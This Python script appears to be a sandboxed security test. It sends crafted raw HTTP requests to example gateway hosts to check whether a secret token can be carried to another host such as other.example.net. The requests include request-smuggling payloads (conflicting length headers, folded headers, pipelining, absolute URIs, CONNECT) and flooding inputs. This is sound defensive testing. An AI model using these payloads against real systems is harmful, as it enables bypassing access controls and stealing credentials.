"""Runs in a sandbox. Each trick: whether it uses TLS, where it goes, what it sends. Prints how each ended: the status of
the last answer, or "cut"."""
import base64, os, re, socket, ssl
T, O, B = os.environ['TOKEN'], os.environ['OTHER'], os.environ['BIG']
CLEAR, VAULT = 'clear.example.com', 'vault.example.com'
def req(path, host, *headers, line=None, body=''):
    return '\r\n'.join((line or f'GET {path} HTTP/1.1', f'Host: {host}') + headers) + '\r\n\r\n' + body
key = f'X-Key: {T}'
TRICKS = {
    'two_hosts': (0, CLEAR, req('/seen/t', CLEAR, 'Host: other.example.net', key)),
    'two_hosts_tls': (1, VAULT, req('/seen/t', VAULT, 'Host: other.example.net', key)),
    'other_host_tls': (1, VAULT, req('/seen/t', 'other.example.net', key)),
    'no_host_tls': (1, VAULT, f'GET /seen/t HTTP/1.0\r\n{key}\r\n\r\n'),
    'folded': (0, CLEAR, req('/seen/t', CLEAR, 'X-A: b', ' ' + key)),
    'folded_tls': (1, VAULT, req('/seen/t', VAULT, 'X-A: b', ' ' + key)),
    'absolute': (0, CLEAR, req('', CLEAR, key, line=f'GET http://other.example.net/seen/t HTTP/1.1')),
    'absolute_tls': (1, VAULT, req('', VAULT, key, line=f'GET https://other.example.net/seen/t HTTP/1.1')),
    'absolute_same_tls': (1, VAULT, req('', VAULT, key, line=f'GET https://{VAULT}/seen/t HTTP/1.1')),
    'connect_tls': (1, VAULT, req('', VAULT, key, line=f'CONNECT other.example.net:80 HTTP/1.1')),
    'line_tls': (1, VAULT, req(f'/seen/t?k={T}', VAULT)),
    'line': (0, CLEAR, req(f'/seen/t/{T}', CLEAR)),
    'name_of_a_header': (1, VAULT, req('/seen/t', VAULT, f'{T}: a')),
    'capitals': (0, 'other.example.net', req('/seen/t', 'other.example.net', key.upper())),
    'length_tls': (1, VAULT, req('/seen/t', VAULT, f'Content-Length: {T}')),
    'upgrade_tls': (1, VAULT, req('/seen/t', VAULT, f'Connection: {T}')),
    'both_lengths_tls': (1, VAULT, req('/seen/t', VAULT, key, 'Content-Length: 4', 'Transfer-Encoding: chunked', body='0\r\n\r\n')),
    'bad_chunk_tls': (1, VAULT, req('/seen/t', VAULT, key, 'Transfer-Encoding: chunked', line='POST /x HTTP/1.1', body='zz\r\n')),
    'bare_line_feeds': (1, VAULT, f'GET /seen/t HTTP/1.1\nHost: {VAULT}\n{key}\n\n'),
    'trace_tls': (1, VAULT, req('', VAULT, key, line='TRACE /seen/t HTTP/1.1')),
    'http2_tls': (1, VAULT, 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    'garbage_tls': (1, VAULT, 'x' * 40000),
    'others_secret': (1, VAULT, req('/seen/t', VAULT, f'X-Key: {O}')),
    'others_secret_in_basic': (1, VAULT, req('/seen/t', VAULT, 'Authorization: Basic ' + base64.b64encode(f'a:{O}'.encode()).decode())),
    'basic_elsewhere': (0, 'other.example.net', req('/seen/t', 'other.example.net', 'Authorization: Basic ' + base64.b64encode(f'a:{T}'.encode()).decode())),
    'pipelined_elsewhere': (0, CLEAR, req('/seen/fine1', CLEAR, key) + req('/seen/t', 'other.example.net', key)),
    'pipelined_elsewhere_tls': (1, VAULT, req('/seen/fine2', VAULT, key) + req('/seen/t', 'other.example.net', key)),
    'address_of_another': (0, '93.184.216.35', req('/seen/t', VAULT, key)),
    'address_alone': (0, '93.184.216.34', req('/seen/t', '93.184.216.34', key)),
    'split_lines': (1, VAULT, req('/seen/split', VAULT, f'X-A: {T[:20]}', f'X-B: {T[20:]}')),
    'split_value': (1, VAULT, req('/seen/spread', VAULT, f'X-A: {T[:20]} {T[20:]}')),
    'long_head_tls': (1, VAULT, req('/seen/t', VAULT, *[f'X-Key: {B}'] * 20)),
    'flood_tls': (1, VAULT, req('/seen/flood', VAULT, *[f'X-Key: {B}'] * 5) * 100),
}
for name, (tls, host, text) in TRICKS.items():
    got = b''
    try:
        s = socket.create_connection((host, 443 if tls else 80), 5)
        if tls:
            s = ssl.create_default_context().wrap_socket(s, server_hostname=host)
        s.settimeout(3)
        s.sendall(text.encode('latin-1'))
        if name.startswith(('split', 'pipelined')):
            s.settimeout(1)
        while d := s.recv(65536):
            got += d
            if b'seen\n' in got and not name.startswith('pipelined'):
                break
    except OSError as e:
        pass
    answers = re.findall(rb'HTTP/1.1 (\d+) ', got)
    print(name, answers[-1].decode() if answers else 'cut')
